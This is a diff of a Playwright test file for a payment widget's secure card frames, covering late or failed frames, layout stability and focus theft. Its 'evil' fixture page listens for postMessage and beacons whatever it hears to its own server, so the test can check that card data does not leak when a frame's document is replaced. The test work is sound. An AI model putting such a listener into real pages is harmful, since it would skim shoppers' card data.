@@ -1,23 +1,27 @@
-/** Frames that do not come, or are replaced by the page: the shopper is told in time. */
+/** Frames that do not load, come late or are replaced by the page. The shopper is told in time. */
 import type { Page } from '@playwright/test';
 import { holdBack } from '../fixtures/hold-back.ts';
+import { inlineScript, nonce } from '../fixtures/merchant.ts';
 import { expect, test } from '../fixtures/test.ts';
 
 const listening = `var log = []; var wpwlOptions = {
   onError: function (error) { log.push(error.name + ': ' + error.message); } };`;
-const log = (page: Page) => page.evaluate(() => (window as unknown as { log: string[] }).log);
-const lost = 'The payment form could not be loaded completely. Check the connection, then press the button.';
-const silent = (name: string) => `PciIframeCommunicationError: The secure frame '${name}' does not answer.`;
+const readLog = (page: Page) => page.evaluate(() => (window as unknown as { log: string[] }).log);
+const notLoaded =
+  'The payment form could not be loaded completely. Check the connection, then press the button.';
+/** What onError is told when a field's frame does not answer. */
+const silentFrame = (name: string) =>
+  `PciIframeCommunicationError: The secure frame '${name}' does not answer.`;
 const story = { options: listening, form: 'action="{result}" data-brands="VISA"' };
 
-test('frames that come late are told of within six seconds, and the message goes when they are there', async ({
+test('a message tells within six seconds that frames are late, and goes when they are there', async ({
   open,
   page,
 }) => {
   const release = await holdBack(page, '**/pciIframe.html*');
   const { form, resultUrl } = await open(story);
-  await expect(form.message).toHaveText(lost, { timeout: 6_000 });
-  expect((await log(page)).sort()).toEqual([silent('card.cvv'), silent('card.number')]);
+  await expect(form.message).toHaveText(notLoaded, { timeout: 6_000 });
+  expect((await readLog(page)).sort()).toEqual([silentFrame('card.cvv'), silentFrame('card.number')]);
   release();
   await expect(form.message).toHaveCount(0);
   await form.fill();
@@ -25,14 +29,14 @@ test('frames that come late are told of within six seconds, and the message goes
   await page.waitForURL(`${resultUrl}?*`);
 });
 
-test('frames that did not come are loaded again when the shopper presses the button, which then pays', async ({
+test('frames that did not load are loaded again when the shopper presses the button, which then pays', async ({
   open,
   page,
 }) => {
   let broken = true;
   await page.route('**/pciIframe.html*', (route) => (broken ? route.abort() : route.continue()));
   const { form, resultUrl } = await open(story);
-  await expect(form.message).toHaveText(lost, { timeout: 10_000 });
+  await expect(form.message).toHaveText(notLoaded, { timeout: 10_000 });
   broken = false;
   await form.pay();
   await expect(form.message).toHaveCount(0, { timeout: 10_000 });
@@ -41,7 +45,7 @@ test('frames that did not come are loaded again when the shopper presses the but
   await page.waitForURL(`${resultUrl}?*`);
 });
 
-test('a field that is loading shows a bar in its place, and moves nothing when it has come', async ({
+test('a field that is loading shows a bar in its place, and nothing moves when it has loaded', async ({
   open,
   page,
 }) => {
@@ -57,7 +61,7 @@ test('a field that is loading shows a bar in its place, and moves nothing when i
   expect(await field.boundingBox()).toEqual(before);
 });
 
-test('a script that takes the focus while the shopper types is told of, one that waits for the shopper is not', async ({
+test('onError is told of a script that takes the focus while the shopper types, not of one that waits for the shopper', async ({
   open,
   page,
 }) => {
@@ -67,18 +71,24 @@ test('a script that takes the focus while the shopper types is told of, one that
   const typed = await page.evaluate(() => performance.now());
   await page.waitForFunction((moment) => performance.now() - moment > 1_000, typed);
   await page.locator('#thief').click();
-  expect(await log(page)).toEqual([]);
+  expect(await readLog(page)).toEqual([]);
   await form.number.click();
   await page.keyboard.press('0');
   await page.evaluate(() => document.querySelector<HTMLElement>('#thief')?.focus());
   await expect
-    .poll(() => log(page))
+    .poll(() => readLog(page))
     .toEqual(["WidgetError: The secure frame 'card.number' lost the focus to a script."]);
 });
 
-const evil =
-  '<!doctype html><title>Evil</title><input name="card.number"><script>heard = []; onmessage = (e) => heard.push(e.data)</script>';
-for (const [how, act] of [
+/**
+ * A document that tells its server at the address with `?heard` what it hears. It says first that it listens. It holds an
+ * input of the field's name, which a widget could take for its own.
+ */
+const evil = `<!doctype html><title>Evil</title><input name="card.number">${inlineScript(`
+  var tell = function (text) { new Image().src = location.pathname + '?heard=' + encodeURIComponent(text); };
+  onmessage = function (event) { tell(JSON.stringify(event.data)); };
+  tell('listening');`)}`;
+for (const [how, replaceDocument] of [
   [
     'src',
     (frame: HTMLIFrameElement, url: string): void => {
@@ -94,33 +104,31 @@ for (const [how, act] of [
 ] as const) {
   test.describe(`a field whose frame gets another document by ${how}`, () => {
     test.use({ allowedViolations: /frame-src/ });
-    test('is told of, comes back with its value, and nothing goes to the other document', async ({
+    test('comes back with its value, is told to onError, and sends nothing to the other document', async ({
       open,
       page,
       gateway,
       merchant,
       api,
     }) => {
-      const url = merchant.serve('/evil', { html: evil, headers: { 'Content-Security-Policy': '' } });
+      const path = `/evil-by-${how}`;
+      const url = merchant.serve(path, { html: evil, headers: { 'Content-Security-Policy': '' } });
       const { form, checkoutId, resultUrl } = await open({
         ...story,
         headers: {
-          'Content-Security-Policy': `script-src 'nonce-bWVyY2hhbnQ' ${gateway.gateway}; frame-src ${gateway.gateway} ${merchant.origin}`,
+          'Content-Security-Policy': `script-src 'nonce-${nonce}' ${gateway.gateway}; frame-src ${gateway.gateway} ${merchant.origin}`,
         },
       });
       await form.fill();
-      const heard: unknown[] = [];
-      page.on('framenavigated', async (frame) => {
-        if (frame.url() === url)
-          heard.push(...((await frame.evaluate('heard').catch(() => [])) as unknown[]));
-      });
+      const heard = () => merchant.visits.filter((visit) => visit.startsWith(`${path}?heard=`));
       const frame = form.iframe('card.number');
-      await frame.evaluate(act, url);
-      await expect.poll(() => log(page), { timeout: 5_000 }).toContain(silent('card.number'));
+      await frame.evaluate(replaceDocument, url);
+      await expect.poll(heard).toContain(`${path}?heard=listening`);
+      await expect.poll(() => readLog(page), { timeout: 5_000 }).toContain(silentFrame('card.number'));
       await expect(form.number).toHaveValue('4200 0000 0000 0026');
       await expect(form.message).toHaveCount(0);
       expect(await api.getPaymentRequests(checkoutId)).toHaveLength(0);
-      expect(heard).toEqual([]);
+      expect(heard()).toEqual([`${path}?heard=listening`]);
       await form.pay();
       await page.waitForURL(`${resultUrl}?*`);
     });
